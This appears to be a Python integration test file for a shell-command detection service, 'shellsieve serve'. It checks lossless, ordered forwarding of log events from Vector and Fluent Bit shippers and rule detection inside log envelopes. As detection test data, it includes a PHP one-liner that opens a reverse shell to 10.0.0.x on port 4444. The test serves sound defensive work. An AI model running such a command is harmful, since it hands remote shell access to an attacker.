"""`shellsieve serve` between peers that speak the shippers' wire contracts: every upstream peer into every
downstream kind, Fluent Bit's forward output into each, and shipper envelopes. Each event is traced back by
(connection, sequence)."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from .conftest import PHP_FSOCKOPEN, Stream, account, await_for, is_alert, stream
from .harness import (DOWNSTREAMS, RAW_LINE_PEERS, UPSTREAMS, Listeners, down_count, downstream, forward_url, in_out,
                      malformed_total, per_listener_in, run, send, started)



class TestEveryPair:
    @pytest.mark.parametrize("down", [*DOWNSTREAMS, "http_json_array"])
    def test_every_upstream_into(self, down: str, tmp_path: Path, start_serve: Any) -> None:
        """Every upstream peer at once into one downstream kind: 0 lost, 0 reordered, alerts present, bad
        lines forwarded and counted, no connection dropped."""
        async def go() -> tuple[list[Stream], Any, dict[str, Any], Any]:
            sink = await started(downstream(down, tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("http", "tcp", "unix")), forward_url(sink))
            assert ls.unix.stat().st_mode & 0o777 == 0o600, oct(ls.unix.stat().st_mode)
            kinds = [*(k for k in UPSTREAMS if k != "fluentbit_forward"), "vector_http_text", "vector_http_gzip"]
            streams = [stream(k, 1200, odd_every=40 if k in (*RAW_LINE_PEERS[1:], "vector_http_text") else 0)
                       for k in kinds]
            reports = await asyncio.gather(*(send(k, ls, s) for k, s in zip(kinds, streams)))
            total = sum(len(s.lines) for s in streams)
            await await_for(lambda: down_count(sink) >= total, 20)
            stopped = await asyncio.to_thread(srv.stop)
            await sink.stop()
            return streams, sink.events, dict(zip(kinds, reports)), stopped
        streams, events, reports, stopped = run(go())
        d = account(streams, events)
        assert d.ok and not d.duplicates, d.summary()
        assert sum(is_alert(e) for e in events) == sum(s.kinds.count("alert") for s in streams)
        for k in ("vector_http", "vector_http_text", "vector_http_gzip", "fluentbit_http"):
            assert set(reports[k].statuses) == {200}, (k, dict(reports[k].statuses))
        assert stopped.returncode == 0, stopped.logs[-5:]
        sent_bad = sum(sum(s.malformed().values()) for s in streams)
        assert malformed_total(stopped.stopped) == sent_bad, stopped.stopped
        total = sum(len(s.lines) for s in streams)
        assert in_out(stopped.stopped) == (total, total), stopped.stopped
        assert per_listener_in(stopped.stopped) == total, stopped.stopped.get("listeners")


class TestForwardUpstream:
    @pytest.mark.parametrize("down", DOWNSTREAMS)
    def test_forward_into(self, down: str, tmp_path: Path, start_serve: Any) -> None:
        """Fluent Bit's forward output (Forward mode with and without metadata, gzip CompressedPackedForward,
        chunk acks) into one downstream kind: every chunk acked once, 0 lost, 0 reordered, alerts present."""
        async def go() -> tuple[list[Stream], Any, list[Any], Any]:
            sink = await started(downstream(down, tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("forward",)), forward_url(sink))
            streams = [stream("fwd", 1000), stream("fwdgz", 1000), stream("fwdv1", 1000)]
            reports = await asyncio.gather(
                send("fluentbit_forward", ls, streams[0], chunk_events=100),
                send("fluentbit_forward", ls, streams[1], chunk_events=100, compress=True),
                send("fluentbit_forward", ls, streams[2], chunk_events=100, retain_metadata=False))
            await await_for(lambda: down_count(sink) >= 3000, 20)
            stopped = await asyncio.to_thread(srv.stop)
            await sink.stop()
            return streams, sink.events, reports, stopped
        streams, events, reports, stopped = run(go())
        d = account(streams, events)
        assert d.ok and not d.duplicates, d.summary()
        assert all(r.retries == 0 and r.acked == 1000 for r in reports), [(r.retries, r.errors[:3]) for r in reports]
        assert stopped.returncode == 0 and in_out(stopped.stopped) == (3000, 3000), stopped.stopped


class TestEnvelopes:
    def test_envelopes_detect_as_bare(self, tmp_path: Path, start_serve: Any) -> None:
        """Vector's file-source envelope and Fluent Bit's `log` envelope detect exactly what the same lines
        detect bare (needs the envelope feature on main: fails until it lands)."""
        bare = stream("env", 300, alert_every=10).lines + [
            b"php -r '$s=fsockopen(\"10.0.0.%d\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'" % i for i in range(10)]
        vector = [json.dumps({"message": x.decode(), "host": "web-01", "file": "/var/log/exec.log",
                              "source_type": "file", "timestamp": "2026-11-22T10:00:00Z"}).encode() for x in bare]
        fluent = [json.dumps({"log": x.decode()}).encode() for x in bare]

        async def go() -> list[list[dict[str, Any]]]:
            sink = await started(downstream("tcp", tmp_path))
            ls = Listeners.make(tmp_path)
            srv = await asyncio.to_thread(start_serve, ls.urls(("tcp",), "host_os=linux"), forward_url(sink))
            outs = []
            for lines in (bare, vector, fluent):
                before = len(sink.lines)
                await send("vector_tcp", ls, Stream("x", lines, ["?"] * len(lines)))
                await await_for(lambda: len(sink.lines) >= before + len(lines), 20)  # noqa: B023  awaited here
                outs.append([json.loads(x) for x in sink.lines[before:]])
            await asyncio.to_thread(srv.stop)
            await sink.stop()
            return outs

        def rules(obj: dict[str, Any]) -> list[str]:
            return sorted(a["rule"]["id"] for a in obj.get("shellsieve", {}).get("alerts", []))
        outs = run(go())
        want = [rules(x) for x in outs[0]]
        assert sum(bool(r) for r in want) >= 30 and all(PHP_FSOCKOPEN in r for r in want[-10:]), want[-12:]
        assert [rules(x) for x in outs[1]] == want
        assert [rules(x) for x in outs[2]] == want
        # the envelope's own fields stay (its `host` string may collide with an inner ECS `host` object)
        assert all(x.get("file") == "/var/log/exec.log" and x.get("source_type") == "file" for x in outs[1])
